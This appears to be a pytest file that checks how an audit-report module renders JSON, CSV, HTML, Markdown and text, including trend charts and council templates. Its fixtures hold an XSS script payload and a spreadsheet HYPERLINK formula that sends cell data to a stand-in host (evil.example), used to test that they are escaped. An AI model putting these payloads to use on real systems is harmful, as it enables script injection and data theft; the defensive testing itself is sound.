"""Every format from the one model: the JSON shape, one tidy CSV, a complete escaped HTML
document, Markdown and text with the trend chart; hostile names; council templates."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
import report_data as rd
from conftest import as_user
from factories import submitted_audit

from core import locations
from core.reports import (
    ReportTemplateProblem,
    build_report,
    compose_report,
    format_for,
    render_report,
)
from core.reports.periods import Period
from core.reports.render import CSV_COLUMNS, pct_text

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def history(ctx):
    return rd.build(ctx)


@pytest.fixture
def smt(ctx, history):
    return build_report(as_user(ctx, "smt1"), "smt", rd.PERIOD)


@pytest.fixture
def weekly(ctx, history):
    ctx.clock.set(datetime(2020, 5, 4, 9, 0, tzinfo=UTC))
    return build_report(as_user(ctx, "dir1"), "weekly")


@pytest.fixture
def hostile(ctx):
    """An audit whose team and worker names are an attack on the reader's browser and spreadsheet."""
    submitted_audit(ctx, team=SCRIPT)
    with ctx.tx() as tx:
        tx.execute("UPDATE people SET name = ? WHERE login = 'w1'", [FORMULA])
    return compose_report(ctx, "smt", Period(datetime(2020, 4, 27, tzinfo=UTC), datetime(2020, 4, 28, tzinfo=UTC)))


def test_json_has_at_least_the_documented_shape(smt, weekly):
    data = json.loads(render_report(smt, "json"))
    assert {"kind", "from", "to", "generated_at", "totals", "standards", "teams", "escalations", "weeks"} <= set(data)
    assert (data["kind"], data["from"], data["to"]) == ("smt", "2020-04-28T07:00:00Z", "2020-04-30T07:00:00Z")
    assert {"audits", "all_met", "actions_open", "actions_overdue", "escalations_open"} <= set(data["totals"])
    assert {"id", "title", "met", "partly_met", "not_met", "not_applicable"} <= set(data["standards"][0])
    team = data["teams"][0]
    assert {"team", "audits", "all_met", "actions_open", "actions_overdue", "escalations_open", "workers"} <= set(team)
    assert {"worker", "name", "audits", "all_met", "actions_open", "actions_overdue"} <= set(team["workers"][0])
    assert {"escalation_id", "child", "team", "level", "respond_by", "overdue"} <= set(data["escalations"][0])
    assert data["weeks"] == []
    w = json.loads(render_report(weekly, "json"))["weeks"]
    assert len(w) == 9 and {"week_start", "audits", "standards_met_pct"} <= set(w[0])
    assert [x["week_start"] for x in w][-1] == "2020-04-27"  # oldest first, the reported week last


def test_csv_is_one_tidy_table(smt):
    rows = list(csv.reader(io.StringIO(render_report(smt, "csv"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert {len(r) for r in rows} == {6}
    by = {(r[0], r[1], r[2], r[3]): (r[4], r[5]) for r in rows[1:]}
    assert by[("totals", "", "", "audits")] == ("3", "")
    assert by[("totals", "", "", "standards_met_pct")] == ("68.8", "16")  # every % with its n
    assert by[("standard", "", "", "oversight_current.met_pct")] == ("50.0", "2")
    assert by[("team", "Team A", "", "actions_overdue")] == ("1", "")
    assert by[("worker", "Team A", "Will Second", "all_met")] == ("1", "")
    assert by[("report", "", "", "generated_at")] == ("2020-05-01T12:00:00Z", "")
    assert by[("escalation", "Team A", "", f"escalation.{smt.escalations[0].escalation_id}.child")] == ("C1 (A.E.)", "")


def test_weekly_csv_has_the_trend(weekly):
    rows = list(csv.reader(io.StringIO(render_report(weekly, "csv"))))
    assert ["week 2020-04-27", "", "", "standards_met_pct", "82.1", "28"] in rows
    assert not any(r[0] == "worker" for r in rows)  # team level only


class _Doc(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(k, v or "") for k, v in attrs]

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_a_complete_email_safe_document(weekly):
    html = render_report(weekly, "html")
    assert html.startswith("<!DOCTYPE html>") and html.rstrip().endswith("</html>")
    doc = _Doc()
    doc.feed(html)
    assert {"html", "head", "body", "title", "table"} <= set(doc.tags)
    assert not {"script", "svg", "img", "link", "style", "iframe"} & set(doc.tags)  # nothing Outlook blocks
    assert not [v for k, v in doc.attrs if k in ("src", "href")]  # no external resources
    assert not [k for k, _ in doc.attrs if k == "class"]  # inline styles only
    text = " ".join(" ".join(doc.text).split())
    assert "As at Mon 04 May 2020 10:00" in text  # London time
    assert "Mon 27 Apr 2020 to Sun 03 May 2020" in text
    assert "82% (n=28)" in text  # the week's % standards met, with its n
    # The trend chart: one bar (a coloured cell with a width) per week that had audits.
    bars = re.findall(r'<td width="(\d+)" height="12" bgcolor="#1d70b8"', html)
    assert bars and max(int(b) for b in bars) == 120


def test_text_and_markdown_draw_the_trend(weekly):
    txt = render_report(weekly, "txt")
    assert "TREND" in txt and "Audits per week" in txt
    line = next(row for row in txt.splitlines() if row.strip().startswith("Mon 27 Apr 2020"))
    assert "█" in line and "82% (n=28)" in line
    assert re.search(r"Audits per week\s+[▁▂▃▄▅▆▇█ ]{9}$", txt, re.M)
    md = render_report(weekly, "md")
    assert "## Trend" in md and "`" in md and "| Mon 27 Apr 2020 | 5 |" in md


def test_text_reads_as_an_smt_member_expects(smt):
    smt_txt = render_report(smt, "txt")
    for needle in ("As at      Fri 01 May 2020 13:00", "Period     Tue 28 Apr 2020 08:00 to Thu 30 Apr 2020 08:00",
                   "Every standard met or not applicable   1  1 of 3 audits (33%)",
                   "(open and overdue counts as at the end of the period, Thu 30 Apr 2020 08:00)",
                   "BY TEAM AND WORKER", "    Will Second", "C1 (A.E.)", "OVERDUE: no response",
                   "1. Virtual contacts since 23 March 2020", "partly met in 1 of 2 rated (50%)"):
        assert needle in smt_txt, needle
    assert "TREND" not in smt_txt


def test_hostile_names_are_escaped_in_html_and_markdown_and_neutralised_in_csv(hostile):
    html = render_report(hostile, "html")
    assert SCRIPT not in html and "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in html
    doc = _Doc()
    doc.feed(html)
    assert "script" not in doc.tags
    rows = list(csv.reader(io.StringIO(render_report(hostile, "csv"))))
    cells = [c for r in rows for c in r]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    md = render_report(hostile, "md")
    assert "<script>" not in md and "\\<script\\>" in md
    assert render_report(hostile, "txt").count(SCRIPT) >= 1  # plain text shows it as written


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_council_templates_override_and_a_broken_one_is_one_line(smt):
    own = locations.templates_dir() / "reports"
    own.mkdir(parents=True)
    (own / "report.md.j2").write_text("# {{ md(report.council) }}: {{ t.audits }} audits\n")
    assert render_report(smt, "md") == "# Example Council Children's Services: 3 audits\n"
    (own / "report.md.j2").write_text("{{ t.no_such_figure }}\n")
    with pytest.raises(ReportTemplateProblem) as err:
        render_report(smt, "md")
    message = str(err.value)
    assert "report.md.j2" in message and "no_such_figure" in message and "\n" not in message


def test_format_from_the_extension():
    assert [format_for(p, None) for p in ("a.html", "a.HTM", "b.md", "c.csv", "d.json", "e.txt", None)] == [
        "html", "html", "md", "csv", "json", "txt", "txt"]
    assert format_for("a.csv", "json") == "json"
    with pytest.raises(Exception, match="cannot tell the format from '.pdf'"):
        format_for("report.pdf", None)


def test_percentages_read_true():
    assert [pct_text(v) for v in (None, 0.0, 0.4, 33.3, 66.7, 99.5, 100.0)] == [
        "–", "0%", "0.4%", "33%", "67%", "99.5%", "100%"]  # 99.5% never reads as 100%
